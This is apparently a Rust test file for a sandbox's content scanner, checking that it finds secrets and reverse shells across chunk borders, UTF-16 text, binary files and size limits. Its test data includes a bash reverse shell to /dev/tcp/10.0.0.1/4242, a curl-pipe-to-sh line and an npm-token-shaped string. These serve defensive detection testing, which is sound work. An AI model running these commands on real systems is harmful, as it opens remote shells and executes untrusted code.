//! The scanner as a whole: chunks, places, encodings, binary files, bounds.

use std::path::Path;

use proptest::prelude::*;
use sandbox_types::RiskLevel;

use super::{ContentPolicy, ContentScanner, FINDINGS_MAX, Scanned, content_rules};

fn scanner() -> ContentScanner {
    ContentScanner::new(ContentPolicy::from(RiskLevel::Low))
}

fn rules(scanned: &Scanned) -> Vec<&str> {
    scanned.findings.iter().map(|it| it.rule.as_str()).collect()
}

const SHELL: &str = "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1";

/// Examples of all rules, one after the other, with lines of several lengths between them.
fn everything() -> String {
    let mut text = String::new();
    for (at, rule) in content_rules().enumerate() {
        for example in rule.matches.iter().filter(|it| !it.starts_with('@')) {
            text.push_str(example);
            text.push('\n');
            text.push_str(&"filler ".repeat(at * 7 % 400));
            text.push('\n');
        }
    }
    text
}

#[test]
fn a_block_border_hides_nothing() {
    let text = everything();
    let whole = scanner().scan("x", text.as_bytes());
    assert!(whole.findings.len() > 60);
    for block in [1, 7, 64, 1000, 4096] {
        let small = ContentScanner { block, ..scanner() };
        assert_eq!(small.scan("x", text.as_bytes()), whole, "blocks of {block}");
    }
    assert_eq!(scanner().expecting(1).scan("x", text.as_bytes()), whole);
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::with_cases(64) })]
    #[test]
    fn chunks_do_not_matter(
        pieces in proptest::collection::vec((0..200_usize, "[ -~\n]{0,300}"), 1..12),
        cuts in proptest::collection::vec(1..3000_usize, 1..20),
        block in 1..2000_usize,
        utf16 in any::<bool>(),
    ) {
        let examples: Vec<&str> = content_rules().flat_map(|it| it.matches).copied().collect();
        let mut text = String::new();
        for (example, filler) in &pieces {
            text.push_str(examples[example % examples.len()]);
            text.push_str(filler);
        }
        let mut bytes = text.into_bytes();
        if utf16 {
            let text = String::from_utf8(bytes).unwrap();
            let units = std::iter::once(0xfeff).chain(text.encode_utf16());
            bytes = units.flat_map(u16::to_le_bytes).collect();
        }
        let small = ContentScanner { block, ..scanner() };
        let mut scan = small.begin(Path::new("x"), None);
        let mut rest = &bytes[..];
        for cut in cuts.iter().cycle() {
            if rest.is_empty() {
                break;
            }
            let (now, later) = rest.split_at(rest.len().min(*cut));
            scan.feed(now);
            rest = later;
        }
        prop_assert_eq!(scan.finish(), scanner().scan("x", &bytes));
    }

    #[test]
    fn any_bytes_are_scanned(bytes in proptest::collection::vec(any::<u8>(), 0..5000), name in "\\PC{0,20}") {
        let _total = scanner().scan(name, &bytes);
    }
}

#[test]
fn places_are_lines_and_bytes() {
    let place = |text: &str| {
        let scanned = scanner().scan("x", text.as_bytes());
        let found = scanned
            .findings
            .iter()
            .find(|it| it.rule == "secret.npm-token")
            .unwrap();
        (found.line, found.column)
    };
    let token = concat!("np", "m_mG1ylvuhfJXqIEnomef2mSJ5CMTIeg1mOcg4");
    assert_eq!(place(token), (1, 1));
    assert_eq!(
        place(&format!("a\r\nü {token}")),
        (2, 4),
        "columns are bytes"
    );
    assert_eq!(
        place(&format!(
            "{}\n{} {token}",
            "x\n".repeat(200_000),
            "y".repeat(300_000)
        )),
        (200_002, 300_002)
    );
    let far = format!("{}{token}\n{token}", "z ".repeat(1_000_000));
    let lines: Vec<(u64, u64)> = scanner()
        .scan("x", far.as_bytes())
        .findings
        .iter()
        .map(|it| (it.line, it.column))
        .collect();
    assert_eq!(lines, [(1, 2_000_001), (2, 1)]);
}

#[test]
fn binary_files_are_searched_for_secrets_only() {
    let token = concat!("np", "m_mG1ylvuhfJXqIEnomef2mSJ5CMTIeg1mOcg4");
    let text = format!("\0\n{SHELL}\n{token}\n");
    assert_eq!(
        rules(&scanner().scan("x", text.as_bytes())),
        ["secret.npm-token"]
    );
    let script = format!("#!/bin/bash\n\0\n{SHELL}\n");
    assert_eq!(
        rules(&scanner().scan("x", script.as_bytes())),
        ["script.reverse-shell"],
        "it runs all the same"
    );
    let late = format!("{}{SHELL}\0\n", "a\n".repeat(5000));
    assert_eq!(
        rules(&scanner().scan("x", late.as_bytes())),
        ["script.reverse-shell"],
        "a NUL later on is text"
    );
}

#[test]
fn utf16_is_read() {
    for order in [u16::to_le_bytes as fn(u16) -> [u8; 2], u16::to_be_bytes] {
        let bytes: Vec<u8> = std::iter::once(0xfeff)
            .chain(format!("a\n{SHELL}\n").encode_utf16())
            .flat_map(order)
            .collect();
        let scanned = scanner().scan("x.ps1", &bytes);
        assert_eq!(rules(&scanned), ["script.reverse-shell"]);
        assert_eq!(
            (scanned.findings[0].line, scanned.findings[0].column),
            (2, 1)
        );
    }
}

#[test]
fn policy_rules_are_the_callers() {
    let policy = ContentPolicy {
        least: RiskLevel::High,
        max_file_bytes: Some(3),
        deny_extensions: vec![".EXE".to_owned(), "dll".to_owned()],
    };
    let strict = ContentScanner::new(policy);
    assert_eq!(
        rules(&strict.scan("a.exe", b"abcd")),
        ["file.denied-extension", "file.too-large"]
    );
    assert_eq!(rules(&strict.scan("a.exe.txt", b"abc")), [""; 0]);
    let mut partly = strict.begin(Path::new("big"), Some(10));
    partly.feed(b"ab");
    assert_eq!(rules(&partly.finish()), ["file.too-large"]);
    let high = ContentScanner::new(ContentPolicy::from(RiskLevel::High));
    let medium = high.scan("a", b"curl https://example.com/x | sh");
    assert_eq!(rules(&medium), [""; 0]);
}

#[test]
fn what_a_hostile_file_costs_is_bounded() {
    let many = format!("{SHELL}\n").repeat(FINDINGS_MAX + 50);
    let scanned = scanner().scan("x", many.as_bytes());
    assert_eq!((scanned.findings.len(), scanned.more), (FINDINGS_MAX, 50));
    let words = "|sh".repeat(200_000);
    assert_eq!(
        rules(&scanner().scan("x", words.as_bytes())),
        ["file.saturated"]
    );
}

#[test]
fn a_finding_is_said_once_a_line() {
    let text = format!("{SHELL}; {SHELL}\n{SHELL}");
    assert_eq!(scanner().scan("x", text.as_bytes()).findings.len(), 2);
}
